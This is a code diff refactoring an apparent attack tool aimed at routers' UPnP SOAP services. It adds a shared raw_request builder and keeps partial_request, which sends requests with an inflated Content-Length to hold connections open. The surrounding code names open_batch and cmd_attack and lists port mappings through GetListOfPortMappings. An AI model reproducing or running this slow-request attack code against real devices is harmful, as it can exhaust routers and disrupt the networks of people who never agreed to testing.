@@ -97,24 +97,35 @@ def open_batch(src, host, port, n):
     return done, waiting
 
 
-def partial_request(u, stype):
-    body = ssdp.soap_body(stype, "GetExternalIPAddress", [])
-    head = ("POST %s HTTP/1.1\r\nHOST: %s:%d\r\n"
+def raw_request(u, stype, action, args, missing=0):
+    """A SOAP POST as bytes, for a socket of our own; its Content-Length
+    claims `missing` bytes more than it carries."""
+    body = ssdp.soap_body(stype, action, args)
+    head = ("POST %s HTTP/1.1\r\nHOST: %s:%d\r\nConnection: close\r\n"
             "CONTENT-TYPE: text/xml; charset=\"utf-8\"\r\n"
-            "SOAPACTION: \"%s#GetExternalIPAddress\"\r\n"
+            "SOAPACTION: \"%s#%s\"\r\n"
             "CONTENT-LENGTH: %d\r\n\r\n"
-            % (u.path, u.hostname, u.port, stype, len(body) + 1000))
+            % (u.path, u.hostname, u.port, stype, action,
+               len(body) + missing))
     return head.encode() + body
 
 
-def probe(url, stype, src, timeout):
-    body = ssdp.soap_body(stype, "GetExternalIPAddress", [])
+def partial_request(u, stype):
+    return raw_request(u, stype, "GetExternalIPAddress", [], missing=1000)
+
+
+def soap(url, stype, action, args, src, timeout=5.0):
     hdrs = {"CONTENT-TYPE": 'text/xml; charset="utf-8"',
-            "SOAPACTION": '"%s#GetExternalIPAddress"' % stype}
+            "SOAPACTION": '"%s#%s"' % (stype, action)}
+    return ssdp.http("POST", url, ssdp.soap_body(stype, action, args), hdrs,
+                     timeout=timeout, source=src)
+
+
+def probe(url, stype, src, timeout):
     t0 = time.monotonic()
     try:
-        status, _, payload = ssdp.http("POST", url, body, hdrs,
-                                       timeout=timeout, source=src)
+        status, _, payload = soap(url, stype, "GetExternalIPAddress", [],
+                                  src, timeout)
     except OSError:
         return None
     took = time.monotonic() - t0
@@ -196,27 +207,13 @@ def cmd_attack(argv):
     return 0
 
 
-def soap(url, stype, action, args, src, timeout=5.0):
-    hdrs = {"CONTENT-TYPE": 'text/xml; charset="utf-8"',
-            "SOAPACTION": '"%s#%s"' % (stype, action)}
-    return ssdp.http("POST", url, ssdp.soap_body(stype, action, args), hdrs,
-                     timeout=timeout, source=src)
-
-
 LIST_ARGS = [("NewStartPort", "1024"), ("NewEndPort", "65535"),
              ("NewProtocol", "TCP"), ("NewManage", "0"),
              ("NewNumberOfPorts", "0")]
-TCP_INFO_STATE = {1: "established", 7: "closed", 8: "close-wait"}
 
 
 def list_request(u, stype):
-    body = ssdp.soap_body(stype, "GetListOfPortMappings", LIST_ARGS)
-    head = ("POST %s HTTP/1.1\r\nHOST: %s:%d\r\nConnection: close\r\n"
-            "CONTENT-TYPE: text/xml; charset=\"utf-8\"\r\n"
-            "SOAPACTION: \"%s#GetListOfPortMappings\"\r\n"
-            "CONTENT-LENGTH: %d\r\n\r\n"
-            % (u.path, u.hostname, u.port, stype, len(body)))
-    return head.encode() + body
+    return raw_request(u, stype, "GetListOfPortMappings", LIST_ARGS)
 
 
 def same_listing(a, b):
